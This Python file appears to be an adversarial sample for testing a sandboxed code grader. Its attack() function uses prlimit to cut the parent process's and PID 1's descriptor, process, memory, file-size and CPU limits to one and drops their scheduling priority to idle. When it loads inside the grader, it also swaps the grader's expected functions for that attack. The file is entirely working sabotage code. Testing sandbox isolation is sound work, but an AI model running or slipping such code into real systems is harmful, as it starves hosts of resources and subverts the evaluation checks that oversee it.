# aim: take the parent's descriptors, processes and memory away with prlimit, so that it can fork no more
# needs: sandbox
import os
import resource
import sys


def attack(*args):
    for limit in (resource.RLIMIT_NOFILE, resource.RLIMIT_NPROC, resource.RLIMIT_AS, resource.RLIMIT_FSIZE, resource.RLIMIT_CPU):
        for pid in (os.getppid(), 1):
            try:
                resource.prlimit(pid, limit, (1, 1))
            except (OSError, ValueError):
                pass
    for who in (os.getppid(), 1):
        try:
            os.setpriority(os.PRIO_PROCESS, who, 19)
            os.sched_setscheduler(who, os.SCHED_IDLE, os.sched_param(0))
        except OSError:
            pass
    return 0


if "grader.guest.warm" in sys.modules:  # else the parent is somebody else's
    attack()
    double = join = apply_all = refuse = Tally = attack
